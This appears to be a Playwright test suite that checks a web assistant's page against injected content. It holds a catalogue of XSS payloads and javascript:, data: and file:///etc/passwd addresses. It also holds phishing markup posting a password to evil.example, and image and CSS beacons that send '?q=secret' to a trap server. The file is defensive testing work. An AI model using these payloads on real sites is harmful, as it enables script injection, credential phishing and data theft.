"""Hostile words in documents, replies, file names and questions, as a visitor's browser draws them.

Every payload would push its name onto `window.ran` or carries `data-evil`, so that these tests need to know nothing of
how the page is built. All is tried once more without the content security policy, which must not be the only defence.
"""

from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import replace
from urllib.parse import quote, urlencode

import pytest
from playwright.sync_api import Browser, Page, expect
from starlette.responses import HTMLResponse

from assistant.domain import (
    NO_CONTEXT,
    Answer,
    AnsweredStatement,
    AnswerTable,
    Citation,
    Contact,
    Context,
    Names,
    Outcome,
    Passage,
    Place,
    Provenance,
    Statement,
    TableCell,
    Turn,
)
from assistant.web.rules import Rules
from tests.browsing import is_complaint
from tests.conftest import free_port
from tests.made_answers import PASSAGE, ROBOTICS, made_answer, made_query, made_trace
from tests.serving import Echoing, serving, whole_app
from tests.test_browser import browser  # noqa: F401  # a fixture
from tests.test_threats_doors import Trap

WAIT = 30_000


def run(name: str) -> str:
    return f"(window.ran=window.ran||[]).push('{name}')"


PAYLOADS = {
    "image": f'<img src=x data-evil onerror="{run("image")}">',
    "svg": f'<svg data-evil onload="{run("svg")}"><circle r=9></svg>',
    "svg script": f"<svg data-evil><script>{run('svg script')}</script></svg>",
    "script": f"<script data-evil>{run('script')}</script>",
    "frame": f'<iframe data-evil srcdoc="<script>parent.{run("frame")}</script>"></iframe>',
    "details": f'<details data-evil open ontoggle="{run("details")}">x</details>',
    "focus": f'<input data-evil autofocus onfocus="{run("focus")}">',
    "video": f'<video data-evil><source onerror="{run("video")}"></video>',
    "link": f"[click](javascript:{run('link')})",
    "link with control characters": f"[click](java\tscript\n:{run('tab')}) [click](\x01javascript:{run('tab')})",
    "link of entities": f"[click](&#106;avascript&colon;{run('entities')})",
    "page as an address": f"[click](data:text/html,<script>opener.{run('data')}</script>)",
    "formula": rf"$$\href{{javascript:{run('formula')}}}{{x}}$$ $\href{{javascript:{run('formula')}}}{{x}}$",
    "diagram": f'```mermaid\ngraph TD; A["<img src=x data-evil onerror={run("diagram")}>"]\n```',
    "custom element": f'<evil-element data-evil onclick="{run("custom")}">x</evil-element><gradio-app data-evil/>',
    "file name": f'"><img src=1 data-evil onerror={run("file name")}>.pdf',
    "attribute": f'" onmouseover="{run("attribute")}" data-evil="',
    "template": f"{{{{constructor.constructor('{run('template')}')()}}}} ${{{run('template')}}} {{% raw %}}",
    "end of a script": f"</script></style></textarea></title><script data-evil>{run('end')}</script><!-- ]]>",
    "mathematics": f'<math data-evil><mtext><style><img src=x onerror="{run("mathematics")}"></style></mtext></math>',
}
PHISHING = (
    '<form data-evil action="https://evil.example/"><input data-evil type="password" name="p"></form>',
    '<div data-evil style="position:fixed;inset:0;background:red">Log in</div>',
    "<style data-evil>body{display:none}</style>",
    '<meta data-evil http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base data-evil href="https://evil.example/">',
    '<a data-evil href="https://evil.example/" style="position:fixed;inset:0">x</a>',
)
BAD_ADDRESSES = (
    "javascript:" + run("address"),
    "data:text/html,<script>1</script>",
    "//evil.example/",
    "java\nscript:" + run("address"),
    "file:///etc/passwd",
    "vbscript:x",
    "https://ok.example/> [x](javascript:1)",
    'https://ok.example/" onclick="' + run("address"),
)


def everywhere(words: Sequence[str], addresses: Sequence[str] = ("https://example.edu/a",)) -> Answer:
    """An answer that says these words in every part that a document, a file name or a model fills."""
    citations = []
    for mark, word in enumerate(words, 1):
        passage = Passage(
            id=f"{word}#{mark}",
            document_id=word,
            title=word,
            headings=(word, "x"),
            text=f"{word} {word}",
            statements=(Statement(f"s{mark}", word, 0), Statement(f"t{mark}", word, len(word) + 1)),
            programmes=(),
            language=PASSAGE.language,
            provenance=Provenance(addresses[mark % len(addresses)], f"2026 {word}", read_via=word),
            place=Place(page=3, sheet=word, first_row=1, last_row=2),
        )
        citations.append(Citation(mark, passage, passage.statements[:1]))
    names = Names(*[" ".join(words)] * 3)
    rows = tuple((TableCell(word), TableCell(word, (mark,))) for mark, word in enumerate(words, 1))
    return made_answer(
        Outcome.PARTLY,
        lead="\n\n".join(words),
        statements=tuple(AnsweredStatement(f"A {word} b", (mark,), word) for mark, word in enumerate(words, 1)),
        table=AnswerTable((words[0], words[-1]), rows),
        citations=tuple(citations),
        closing="\n\n".join(words),
        contact=Contact(words[0], addresses[0]),
        about=(replace(ROBOTICS, names=names, code=words[0], url=addresses[-1]),),
        asked=(names,),
        trace=made_trace(made_query(text=" ".join(words))),
    )


class Hostile(Echoing):
    """Answers "done" to "end" and otherwise with hostile words."""

    def __init__(self, answer: Answer) -> None:
        self._answer = answer

    def answer(self, question: str, turns: Sequence[Turn] = (), context: Context = NO_CONTEXT) -> Answer:
        return self._answer


@contextmanager
def drawn(
    browser: Browser,  # noqa: F811
    answer: Answer,
    question: str,
    *,
    has_policy: bool = True,
) -> Iterator[tuple[Page, list[str]]]:
    """The page with an answer to `question` drawn and everything in it opened, and the addresses that it asked for."""
    with serving(whole_app(Hostile(answer))) as url:
        context = browser.new_context(bypass_csp=not has_policy)
        page = context.new_page()
        asked: list[str] = []
        page.on("request", lambda request: asked.append(request.url.removeprefix(url)))
        page.goto(f"{url}/?lang=en")
        page.get_by_label("Your question").fill(question)
        page.keyboard.press("Enter")
        expect(page.get_by_text("END").first).to_be_visible(timeout=WAIT)
        page.wait_for_timeout(1000)
        open_everything(page)
        yield page, [address for address in asked if not address.startswith(("/", "data:image/"))]
        context.close()


def open_everything(page: Page) -> None:
    """Unfold what can be unfolded, move over and click whatever looks like a link that leads nowhere good."""
    page.evaluate(
        """() => {
            for (const part of document.querySelectorAll('details')) part.open = true;
            for (const button of document.querySelectorAll('button.label-wrap:not(.open), summary')) button.click();
        }"""
    )
    page.wait_for_timeout(500)
    page.evaluate(
        """() => {
            for (const element of document.querySelectorAll('main *, .gradio-container *')) {
                element.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}));
                if (element.matches('a') && !/^https?:/.test(element.href)) element.click();
            }
        }"""
    )
    page.wait_for_timeout(500)


def harm(page: Page) -> list[str]:
    """What ran, and what stands in the page as an element that a payload asked for."""
    found: list[str] = page.evaluate(
        """() => {
            const evil = document.querySelectorAll('[data-evil], evil-element, [href*=evil], [content*=evil]');
            const bad = [...document.querySelectorAll('a[href]')].map(a => a.getAttribute('href'))
                .filter(href => !/^(https?:\\/\\/|#|\\/[^/]|\\.\\/|$)/.test(href));
            return [...(window.ran || []), ...[...evil].map(e => e.outerHTML), ...bad];
        }"""
    )
    return found


WITH_AND_WITHOUT = pytest.mark.parametrize("has_policy", [True, False], ids=["policy", "no policy"])


@WITH_AND_WITHOUT
def test_threat_01_nothing_that_a_document_or_a_reply_says_runs(browser: Browser, has_policy: bool) -> None:  # noqa: F811
    answer = everywhere([f"END {payload}" for payload in PAYLOADS.values()])

    with drawn(browser, answer, "x", has_policy=has_policy) as (page, elsewhere):
        assert harm(page) == []
        assert elsewhere == []
        assert page.title() == "Programme assistant"


@WITH_AND_WITHOUT
def test_threat_01_nothing_that_a_visitor_types_runs(browser: Browser, has_policy: bool) -> None:  # noqa: F811
    question = " ".join(PAYLOADS.values()).replace("\n", " ")[:1990]

    with drawn(browser, made_answer(lead="END"), question, has_policy=has_policy) as (page, elsewhere):
        assert "<img src=x data-evil" in page.inner_text("body")
        assert harm(page) == []
        assert elsewhere == []


@WITH_AND_WITHOUT
def test_threat_01_nothing_in_the_address_of_the_page_runs(browser: Browser, has_policy: bool) -> None:  # noqa: F811
    with serving(whole_app()) as url:
        context = browser.new_context(bypass_csp=not has_policy)
        page = context.new_page()
        for payload in PAYLOADS.values():
            page.goto(f"{url}/?{urlencode({'q': payload, 'lang': payload, '__theme': payload})}#{quote(payload)}")
            expect(page.get_by_role("textbox").first).to_be_visible(timeout=WAIT)
            assert harm(page) == []
        context.close()


@WITH_AND_WITHOUT
def test_threat_02_an_image_in_a_document_tells_nobody(browser: Browser, has_policy: bool) -> None:  # noqa: F811
    trap = Trap()
    address = f"http://127.0.0.1:{trap.port}/?q=secret"
    words = (
        f"END ![]({address})",
        f"![x][1]\n\n[1]: {address}",
        f'<img src="{address}">',
        f'<link rel="stylesheet" href="{address}"><link rel="prefetch" href="{address}">',
        f'<div style="background:url({address})">x</div>',
        f'<audio src="{address}" autoplay></audio><object data="{address}"></object><embed src="{address}">',
        f"@import url({address});",
        f"<svg><image href='{address}'/><use href='{address}#x'/></svg>",
    )

    with drawn(browser, everywhere(words), " ".join(words)[:1990], has_policy=has_policy) as (page, elsewhere):
        images = page.locator(f'[src*="{trap.port}"], [href*="{trap.port}"]').count()

    assert elsewhere == []
    assert trap.close() == 0
    assert images == 0


@WITH_AND_WITHOUT
def test_threat_03_a_source_whose_address_is_none_is_no_link(browser: Browser, has_policy: bool) -> None:  # noqa: F811
    answer = everywhere(["END"] * len(BAD_ADDRESSES), BAD_ADDRESSES)

    with drawn(browser, answer, "x", has_policy=has_policy) as (page, elsewhere):
        hrefs = page.evaluate("[...document.querySelectorAll('a[href]')].map(a => a.getAttribute('href'))")
        assert harm(page) == []
        assert not [href for href in hrefs if any(word in href for word in ("evil", "ran", "passwd", "ok.example"))]
        assert elsewhere == []


@WITH_AND_WITHOUT
def test_threat_04_no_form_and_no_cover_comes_from_a_document(browser: Browser, has_policy: bool) -> None:  # noqa: F811
    answer = everywhere([f"END {word}" for word in PHISHING])

    with drawn(browser, answer, " ".join(PHISHING), has_policy=has_policy) as (page, elsewhere):
        assert harm(page) == []
        assert page.locator('input[type="password"], form[action]').count() == 0
        assert elsewhere == []


def test_the_page_works_under_its_policy_without_one_complaint(browser: Browser) -> None:  # noqa: F811
    with serving(whole_app()) as url:
        context = browser.new_context()
        page = context.new_page()
        complaints: list[str] = []
        page.on("console", lambda message: complaints.append(message.text) if is_complaint(message) else None)
        page.on("pageerror", lambda error: complaints.append(str(error)))
        page.on("response", lambda reply: complaints.append(reply.url) if reply.status >= 400 else None)
        page.goto(f"{url}/?lang=en")
        page.get_by_label("Your question").fill("How many places does Robotics have?")
        page.keyboard.press("Enter")
        expect(page.get_by_text("Robotics has 40 places").first).to_be_visible(timeout=WAIT)
        open_everything(page)
        context.close()

    assert complaints == []


@pytest.mark.parametrize(("embedders", "is_shown"), [((), False), (("http://localhost:{port}",), True)])
def test_only_named_sites_show_the_page_in_theirs(
    browser: Browser,  # noqa: F811
    embedders: tuple[str, ...],
    is_shown: bool,
) -> None:
    inner = free_port()
    school = HTMLResponse(f'<iframe id="f" src="http://127.0.0.1:{inner}/" width="900" height="600"></iframe>')
    with serving(school) as outer:
        named = tuple(one.format(port=outer.rpartition(":")[2]) for one in embedders)
        with serving(whole_app(rules=Rules(embedders=named)), port=inner):
            context = browser.new_context()
            page = context.new_page()
            page.goto(outer.replace("127.0.0.1", "localhost"))
            box = page.frame_locator("#f").get_by_role("textbox").first
            if is_shown:
                expect(box).to_be_visible(timeout=WAIT)
            else:
                page.wait_for_timeout(2000)
                expect(box).to_have_count(0)
            context.close()
